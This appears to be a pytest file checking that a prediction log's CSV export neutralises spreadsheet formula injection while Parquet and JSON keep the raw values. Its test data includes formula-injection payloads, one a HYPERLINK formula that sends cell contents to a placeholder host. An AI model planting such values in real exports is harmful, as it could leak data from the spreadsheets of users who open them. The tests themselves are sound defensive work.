"""Ids that spreadsheets would run as formulas, in CSV, JSON and Parquet."""

import csv
import io
from dataclasses import replace

import pandas as pd
import pytest

from serving.log.formulas import as_text_cell
from steps.prediction_log.export import export
from tests.support.log_fixtures import MODEL, open_prediction_log, prediction_rows

pytestmark = pytest.mark.quick

FORMULAS = ['=HYPERLINK("http://x?"&A1)', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\uff1d1"]
HARMLESS = ["card-1", "1=1", "a@b", "", "'=1"]


def test_formulas_become_text():
    assert [as_text_cell(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [as_text_cell(text) for text in HARMLESS] == HARMLESS


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_export_neutralises_only_csv(sqlite_uri, spool, tmp_path, suffix):
    rows = [
        replace(row, entity_id=text, features={"=cmd": -1.5, "V2": None})
        for row, text in zip(prediction_rows(len(FORMULAS)), FORMULAS, strict=True)
    ]
    with open_prediction_log(sqlite_uri) as log:
        log.record(rows, MODEL, "test")
    output = tmp_path / f"out{suffix}"
    export(sqlite_uri, output, None, None)
    if suffix == ".parquet":
        table = pd.read_parquet(output)
        assert sorted(table["entity_id"]) == sorted(FORMULAS)
        assert (table["=cmd"] == -1.5).all()
        return
    with output.open(newline="") as file:
        cells = list(csv.DictReader(file))
    assert sorted(row["entity_id"] for row in cells) == sorted(f"'{text}" for text in FORMULAS)
    assert {row["'=cmd"] for row in cells} == {"-1.5"}


def test_predictions_neutralise_only_csv(client):
    row = {"V1": [-1.0] * 2, "gap": [None] * 2, "id": ["=1+1", "plain"]}
    assert client.post("/predict", json=row).status_code == 200
    page = client.get("/predictions", headers={"Accept": "text/csv"}).text
    cells = list(csv.DictReader(io.StringIO(page)))
    assert {cell["entity_id"] for cell in cells} == {"'=1+1", "plain"}
    assert all(cell["features"].startswith("{") for cell in cells)
    found = client.get("/predictions").json()["predictions"]
    assert {row["entity_id"] for row in found} == {"=1+1", "plain"}
